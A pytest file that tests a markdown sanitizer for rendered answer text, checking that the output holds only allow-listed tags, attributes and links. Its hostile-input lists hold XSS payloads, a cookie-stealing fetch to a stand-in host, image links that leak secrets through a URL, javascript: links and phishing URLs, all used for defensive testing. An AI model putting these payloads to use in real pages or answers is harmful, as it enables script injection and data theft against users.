"""SECURITY.md row 11: answer text renders as allow-listed HTML (no raw HTML, no images, no
remote links), checked on the HTML itself: every tag, attribute and URL in the output is parsed
and held against the allow-lists, so a sanitizer that lets anything through fails here.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.ui.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, link_allowed, sanitize_markdown

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>fetch('https://x/?c='+document.cookie)</script>",
    "![](https://x/?q=SECRET)",
    '![logo](https://evil.example/p.png "title")',
    "![a][r]\n\n[r]: https://x/y.png?q=1",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[c](<javascript:alert(1)>)",
    "[c](&#106;avascript:alert(1))",
    "[c](data:text/html;base64,PHNjcmlwdD4=)",
    "[phish](https://sec.gov.evil.com/login)",
    "[phish](https://www.sec.gov@evil.com/)",
    "<https://evil.example/?q=1>",
    "see https://evil.example/?q=secret now",
    "visit www.evil.example today",
    "<iframe src=https://x></iframe>",
    "<!-- hidden --><a href=https://x>x</a>",
    "[x](https://a/(b)) and ![y](https://a/(c))",
    "[[nested](https://x)](https://y)",
    "[ref link][1]\n\n[1]: https://evil.example/",
    '<a href="https://www.sec.gov/" onclick="steal()">ok</a>',
    "<svg onload=alert(1)><style>body{background:url(https://x/)}</style>",
    "```\n</code><script>alert(1)</script>\n```",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:1) | ![i](https://x/) |",
]


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML fragment."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_inert(markup: str) -> _Elements:
    """The properties row 11 asks for, on the sanitizer's output."""
    parsed = _Elements(markup)
    lowered = markup.lower()
    assert "<script" not in lowered and "<img" not in lowered and "<iframe" not in lowered
    assert "<style" not in lowered and "<svg" not in lowered
    assert parsed.comments == []
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, markup)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, markup)
            assert name == "rel" or name in ALLOWED_ATTRIBUTES.get(tag, set()), (tag, name)
            assert name != "src", (tag, markup)  # no tag may load anything
            if name == "href":
                assert link_allowed(value), (value, markup)
            if name == "style":
                assert value.startswith("text-align:") and "url(" not in value, value
            assert "javascript:" not in value.lower() and "data:" not in value.lower()
    return parsed


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_render_only_allow_listed_html(text: str) -> None:
    safe = sanitize_markdown(text)
    parsed = assert_inert(safe.html)
    assert "evil.example/" not in "".join(parsed.text)
    assert "javascript:" not in "".join(parsed.text).lower()


def test_img_onerror_is_shown_as_text_not_rendered() -> None:
    safe = sanitize_markdown("Revenue rose <img src=x onerror=alert(1)> strongly")
    assert safe.html == "<p>Revenue rose &lt;img src=x onerror=alert(1)&gt; strongly</p>\n"


def test_exfiltrating_image_is_removed_with_a_note() -> None:
    safe = sanitize_markdown("Summary ![chart](https://x.example/?q=ACCOUNT-123) done")
    assert safe.html == "<p>Summary [image removed: chart] done</p>\n"
    assert safe.removed == ("image https://x.example/?q=ACCOUNT-123",)


def test_allow_listed_link_is_kept_and_others_lose_only_the_url() -> None:
    text = "See [the 10-K](https://www.sec.gov/a.htm) and [this](https://evil.example/)."
    safe = sanitize_markdown(text)
    assert safe.html == (
        '<p>See <a href="https://www.sec.gov/a.htm" rel="noopener noreferrer nofollow">the 10-K</a>'
        " and this (link removed).</p>\n"
    )
    assert safe.removed == ("link https://evil.example/",)
    assert "<a " not in sanitize_markdown(text, link_hosts=()).html


def test_dollar_amounts_and_code_are_text() -> None:
    safe = sanitize_markdown("Revenue $211.9bn vs $198.3bn; run `SELECT '<x>' AS $a`")
    assert safe.html == (
        "<p>Revenue $211.9bn vs $198.3bn; run <code>SELECT '&lt;x&gt;' AS $a</code></p>\n"
    )


def test_markdown_structure_still_renders() -> None:
    text = (
        "## Result\n\n**Bold** *it* ~~old~~ answer [1]\n\n- item one\n- item two\n\n"
        "3. three\n\n> quoted\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```\ncode\n```"
    )
    markup = sanitize_markdown(text).html
    parsed = assert_inert(markup)
    tags = [t for t, _ in parsed.tags]
    for tag in ("h2", "strong", "em", "s", "ul", "li", "ol", "blockquote", "table", "th", "td"):
        assert tag in tags, (tag, markup)
    assert "<pre><code>code\n</code></pre>" in markup
    assert '<th style="text-align:right">a</th>' in markup
    assert '<ol start="3">' in markup


def test_invisible_and_bidi_characters_are_stripped() -> None:
    assert sanitize_markdown("a\u202eb\u200bc\U000e0041d").html == "<p>abcd</p>\n"


@pytest.mark.parametrize(
    "url,ok",
    [
        ("https://www.sec.gov/x", True),
        ("http://sec.gov/x", True),
        ("https://evil.example/", False),
        ("javascript:alert(1)", False),
        ("//www.sec.gov/x", False),
        ("https://www.sec.gov:443@evil/", False),
    ],
)
def test_link_allowed(url: str, ok: bool) -> None:
    assert link_allowed(url) is ok


PIECES = [
    "<img src=x onerror=alert(1)>",
    "<script>",
    "</script>",
    "<a href='https://evil.example/'>",
    "[x](javascript:alert(1))",
    "![i](https://x.example/p)",
    "<https://evil.example/>",
    "[ok](https://www.sec.gov/)",
    "&#106;avascript:",
    "`",
    "```\n",
    "\n\n",
    "| a |\n|---|\n",
    "**",
    "[",
    "](",
    ")",
    "<",
    ">",
    "text ",
    '" onmouseover="x',
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12))
def test_any_mix_of_hostile_pieces_renders_only_allow_listed_html(pieces: list[str]) -> None:
    assert_inert(sanitize_markdown("".join(pieces)).html)


@pytest.mark.parametrize(
    "name",
    [
        "![x](https://x.example/?q=1)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "see https://x.example/a and www.x.example",
        "$E=mc^2$ `code` *bold* ~strike~ | a | b |",
    ],
)
def test_escaped_labels_render_as_typed(name: str) -> None:
    from markdown_it import MarkdownIt

    from app.ui.sanitize import escape_markdown

    escaped = escape_markdown(name)
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(escaped)
    # GFM autolinks bare URLs; an escaped ":" (and "www\\.") no longer reads as one.
    assert "https://" not in escaped and "www." not in escaped
    assert "<a " not in html and "<img" not in html and "<code>" not in html and "<em>" not in html
    assert "<s>" not in html and "<table>" not in html


def test_escaped_labels_keep_ordinary_names() -> None:
    from app.ui.sanitize import escape_markdown

    assert escape_markdown("MICROSOFT_2023_10K_excerpt") == "MICROSOFT_2023_10K_excerpt"
    assert escape_markdown("renamed.pdf") == "renamed.pdf"
    assert escape_markdown("line one\nline two") == "line one line two"
